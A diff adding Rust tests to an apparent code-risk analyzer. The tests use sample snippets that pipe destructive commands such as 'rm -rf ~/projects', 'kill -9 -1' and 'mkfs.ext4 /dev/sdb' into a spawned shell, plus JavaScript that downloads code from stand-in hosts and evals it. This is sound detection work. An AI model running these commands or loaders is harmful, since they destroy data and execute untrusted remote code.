@@ -265,6 +265,62 @@ fn temporary_directories_the_code_made_are_cleanup() {
 }
 
 #[test]
+fn writes_into_a_shell_the_code_started_are_commands() {
+    let cases = [
+        (
+            "import os\np = os.popen('sh', 'w')\np.write('rm -rf ~/projects\\n')\np.close()",
+            Language::Python,
+            "rm -rf ~/projects",
+        ),
+        (
+            "import subprocess\np = subprocess.Popen(['bash'], stdin=subprocess.PIPE)\np.communicate(b'shutdown -h now\\n')",
+            Language::Python,
+            "shutdown -h now",
+        ),
+        (
+            "import subprocess\nsubprocess.run(['/bin/sh'], input='kill -9 -1', text=True)",
+            Language::Python,
+            "kill -9 -1",
+        ),
+        (
+            "import subprocess\nsh = subprocess.Popen('bash', stdin=subprocess.PIPE, shell=False)\nsh.stdin.write(b'mkfs.ext4 /dev/sdb')",
+            Language::Python,
+            "mkfs.ext4 /dev/sdb",
+        ),
+        (
+            "const { spawn } = require('child_process');\nconst sh = spawn('/bin/sh');\nsh.stdin.write('rm -rf /srv\\n');\nsh.stdin.end();",
+            Language::Js,
+            "rm -rf /srv",
+        ),
+    ];
+    for (code, lang, want) in cases {
+        let got = commands(code, lang);
+        assert!(got.iter().any(|c| c == want), "{code}: {got:?}");
+    }
+    // a program that is not a shell, or a shell given a script, reads data
+    for code in [
+        "import subprocess\nsubprocess.run(['sort'], input='rm -rf /')",
+        "import subprocess\nsubprocess.run(['bash', 'build.sh'], input='yes')",
+    ] {
+        let got = commands(code, Language::Python);
+        assert!(
+            got.iter().all(|c| c != "rm -rf /" && c != "yes"),
+            "{code}: {got:?}"
+        );
+    }
+}
+
+#[test]
+fn names_changed_in_place_are_not_constants() {
+    // `b += c` in a callback: the evaluated `b` is what was received, not ''
+    let code = "require('https').get('https://x.example/p.js', r => { let b = ''; r.on('data', c => b += c); r.on('end', () => eval(b)) })";
+    assert!(js(code) >= RiskLevel::High);
+    let code = "const http = require('http');\nlet body = '';\nhttp.get('http://198.51.100.3/x', res => { res.on('data', d => { body += d }); res.on('end', () => new Function(body)()) })";
+    assert!(js(code) >= RiskLevel::High);
+    assert!(py("import os\ncmd = 'ls'\ncmd += ' -la'\nos.system(cmd)") <= RiskLevel::Medium);
+}
+
+#[test]
 fn folding_is_bounded() {
     // doubling through constants is cut at the bound: incomplete, never a huge string
     let mut code = String::from("a = 'xxxxxxxxxxxxxxxx'\n");
